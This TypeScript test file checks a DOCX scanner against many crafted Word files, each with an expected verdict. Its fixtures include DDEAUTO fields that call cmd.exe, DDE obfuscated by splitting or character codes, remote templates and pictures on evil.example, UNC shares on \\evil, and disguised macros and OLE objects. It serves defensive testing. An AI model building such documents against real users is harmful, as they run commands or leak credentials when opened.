import { describe } from 'vitest';
import { fileSentences } from '#contract/files';
import { bytes, docx, field, linking, ole, relations, utf16, zip } from './make-documents';
import { judgeDocuments, type Input } from './judge-documents';

const { active, linked, locked, cutOff } = fileSentences;
const link = 'https://developer.mozilla.org/en-US/docs/Web/JavaScript';
const here = 'file:///C:\\Users\\Mary\\Templates\\Modern%20resume.dotx';
const webTemplate = relations(['attachedTemplate', 'https://evil.example/a.dotm']);
const withRels = (rels: Uint8Array | string) => docx('', { 'word/_rels/document.xml.rels': rels });
const nested = (command: string, inside: string) => docx(field(`${command} `, field(inside), ' "x"'));
const embedding = (part: Uint8Array) =>
  docx('', {
    'word/_rels/document.xml.rels': relations(['package', 'chart/a.xlsx', '']),
    'word/chart/a.xlsx': part,
  });
function patched(whole: Uint8Array, mark: string, at: number, value: number): Uint8Array {
  const it = Buffer.from(whole);
  it.writeUInt32LE(value, it.lastIndexOf(mark) + at);
  return it;
}
/** The last entry's packed size in an extra field. */
function zip64(whole: Uint8Array): Uint8Array {
  const it = Buffer.from(whole);
  const [entry, end] = [it.lastIndexOf('PK\x01\x02'), it.lastIndexOf('PK\x05\x06')];
  const wide = bytes('\x01\0\x08\0', it.subarray(entry + 20, entry + 24), '\0\0\0\0');
  it.writeUInt16LE(wide.length, entry + 30);
  return patched(bytes(it.subarray(0, end), wide, it.subarray(end)), 'PK\x01\x02', 20, 0xffffffff);
}

const inputs: Input[] = [
  ['whose main part is word/document2.xml (B01)', docx('', {}, 'word/document2.xml'), 'accepted'],
  ['whose main part is elsewhere', docx('', {}, 'content/main.xml'), 'accepted'],
  ['with a [trash] folder (B02)', docx('', { '[trash]/0000.dat': 'old' }), 'accepted'],
  [
    'with what nothing leads to',
    docx('', { '[trash]/_rels/gone.xml.rels': webTemplate, 'readme.txt': 'x' }),
    'accepted',
  ],
  ['made from a template on the own disk (B03)', linking('attachedTemplate', here), 'accepted'],
  ['made from a template in a folder', linking('attachedTemplate', 'Templates/Resume.dotx'), 'accepted'],
  ['with links to click on', linking('hyperlink', link), 'accepted'],
  ['with a link to mail', linking('hyperlink', 'mailto:mary@example.com'), 'accepted'],
  ['with a link to the own disk', linking('hyperlink', 'file:///D:/cv.docx'), 'accepted'],
  ['with a chart', docx('', { 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'x' }), 'accepted'],
  ['with page numbers', docx(field(' PAGE ', ' \\* MERGEFORMAT ')), 'accepted'],
  ['that writes of DDE', docx('<w:t>DDEAUTO INCLUDEPICTURE "http://x"</w:t>'), 'accepted'],
  [
    'with an own picture by a field',
    docx(field('INCLUDEPICTURE "C:\\\\Users\\\\Mary\\\\me.png"')),
    'accepted',
  ],
  ['with a tip of a link', docx(field('HYPERLINK "https://x.com" \\o "Data: // me"')), 'accepted'],
  ['with a picture of a mail', docx(field('INCLUDEPICTURE "cid:image001.png@01D" \\d')), 'accepted'],
  ['with a link without a scheme', linking('hyperlink', '//www.linkedin.com/in/x'), 'accepted'],
  ['with a link that does nothing', linking('hyperlink', 'javascript:void(0);'), 'accepted'],
  ['with a picture by a field in a field', nested('INCLUDEPICTURE', 'REF place'), 'unchecked'],
  ['with a command by a field in a field', nested('', 'QUOTE "DDEAUTO"'), 'unchecked'],
  ['with a field in a field in any other', nested('IF', 'PAGE'), 'accepted'],
  [
    'with a command by a simple field in a field',
    docx(field('<w:fldSimple w:instr="QUOTE 68 68 69"/>', ' c:\\\\cmd.exe')),
    active,
  ],
  ['with two instructions of a field', docx('<w:fldSimple x:instr="PAGE" w:instr="DDE cmd"/>'), 'unchecked'],
  ['with a field of a prefix in other letters', docx('<é:fldSimple é:instr="DDE cmd"/>'), active],
  ...[`xmlns:x=' Target="a.png"'`, 'x:Target="a.png"'].map((decoy): Input => [
    `with a target beside ${decoy}`,
    withRels(webTemplate.replace('Target=', `${decoy} Target=`)),
    linked,
  ]),
  ['with sizes of ZIP64', zip64(docx()), 'accepted'],
  ['with a directory of ZIP64', patched(docx(), 'PK\x05\x06', 16, 0xffffffff), 'unchecked'],
  [
    'with macros past the count of its directory',
    patched(docx('', { 'word/vbaProject.bin': 'x' }), 'PK\x05\x06', 8, 0x00030003),
    active,
  ],
  ['with an embedding of no office', docx('', { 'word/embeddings/a.dat': 'x' }), active],
  ['with an OLE as a package', embedding(ole(['Package'])), active],
  ['with macros in its chart', embedding(zip({ 'xl/vbaProject.bin': 'x' })), active],
  ['with a chart that links elsewhere', embedding(zip({ 'xl/_rels/a.xml.rels': webTemplate })), 'unchecked'],
  ...[
    '%5c%5cevil%5cx%zz',
    '\\??\\UNC\\evil\\x',
    '\\\\?\\GLOBALROOT\\Device\\Mup\\evil',
    'file:///C:/a.exe',
  ].map((place): Input => [`with a link to ${place}`, linking('hyperlink', place), linked]),
  ['with a huge picture', docx('', { 'word/media/a.bmp': new Uint8Array(30_000_000) }), 'accepted'],
  ...['Macintosh%20HD:Users:kila:cv.dotx', 'file:////Users/kila/cv.dotx'].map((place): Input => [
    `with the template ${place}`,
    linking('attachedTemplate', place),
    'accepted',
  ]),
  ...['http:evil.example:80', 'file:////evil/Users/a.dotx'].map((place): Input => [
    `with the template ${place}`,
    linking('attachedTemplate', place),
    linked,
  ]),
  ['packed by a tool for Java', docx('', { 'META-INF/manifest.xml': '<a/>' }), 'accepted'],
  [
    'that writes to whom a list says',
    docx(field('HYPERLINK "mailto:', field('MERGEFIELD Email'), '"')),
    'accepted',
  ],
  ['with macros', docx('', { 'word/vbaProject.bin': 'x' }), active],
  ['with macros under another name', linking('vbaProject', 'media/image1.png', ''), active],
  [
    'of macros by its type',
    docx('', {}, 'word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    active,
  ],
  ['with an OLE embedding', docx('', { 'word/embeddings/oleObject1.bin': 'x' }), active],
  ['with an OLE embedding under another name', linking('oleObject', 'media/image1.png', ''), active],
  ['with a program', docx('', { 'word/run.exe': 'MZ' }), active],
  ['with a page of HTML', linking('aFChunk', 'afchunk.dat', ''), active],
  ['that is a JAR too', docx('', { 'META-INF/MANIFEST.MF': 'x' }), active],
  ['with a field DDEAUTO', docx(field('DDEAUTO c:\\\\cmd.exe')), active],
  ['with DDE in pieces', docx(field('DD', 'E c:\\\\cmd.exe')), active],
  ['with DDE by numbers', docx(field(field('QUOTE 68 68 69 65 85 84 79'), ' "cmd"')), active],
  ['with a simple field', docx('<w:fldSimple w:instr="&#68;DE cmd"/>'), active],
  [
    'with a picture from elsewhere by a field',
    docx(field('INCLUDEPICTURE "http://evil.example/a.png" \\d')),
    linked,
  ],
  [
    'with a text from a share, in a footer',
    docx('', {
      'word/_rels/document.xml.rels': relations(['footer', '/word/foot.xml', '']),
      'word/foot.xml': field('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx"'),
    }),
    linked,
  ],
  ['with a template elsewhere', withRels(webTemplate), linked],
  ['with settings that nothing leads to', docx('', { 'word/_rels/settings.xml.rels': webTemplate }), linked],
  ['with a template on a share', linking('attachedTemplate', 'file://///evil/share/a.dotm'), linked],
  ['with a picture on a share', linking('image', '\\\\evil\\share\\a.png'), linked],
  ['with a link to a share', linking('hyperlink', 'file://evil/share/a.docx'), linked],
  ['with a link to a share, escaped', linking('hyperlink', 'file:%5C%5Cevil\\a'), linked],
  [
    'with a relation by character references',
    linking('image', '&#0000000104;ttp&#x3a;//evil.example/', 'TargetMode="Ext&#101;rnal"'),
    linked,
  ],
  ['with relations in UTF-16', withRels(utf16(webTemplate)), linked],
  ['with a DOCTYPE in its relations', withRels(`<!DOCTYPE a [<!ENTITY e "x">]>${relations()}`), linked],
  ['with relations in another case', docx('', { 'Word/_RELS/Document.XML.rels': webTemplate }), linked],
  [
    'with a password of its ZIP',
    (() => {
      const it = docx();
      it[Buffer.from(it).lastIndexOf('PK\x01\x02') + 8]! |= 1;
      return it;
    })(),
    locked,
  ],
  ['without a directory', docx().subarray(0, -30), cutOff],
  [
    'of too many relations',
    docx('', {
      'word/_rels/document.xml.rels': relations(
        ...Array.from({ length: 600 }, (_, at): [string, string, string] => ['header', `h${at}.xml`, '']),
      ),
      ...Object.fromEntries(
        Array.from({ length: 600 }, (_, at) => [`word/_rels/h${at}.xml.rels`, relations()]),
      ),
    }),
    'unchecked',
  ],
  ['that unpacks into too much', docx('a'.repeat(20_000_000)), 'unchecked'],
];

describe('a DOCX', () => judgeDocuments(inputs));
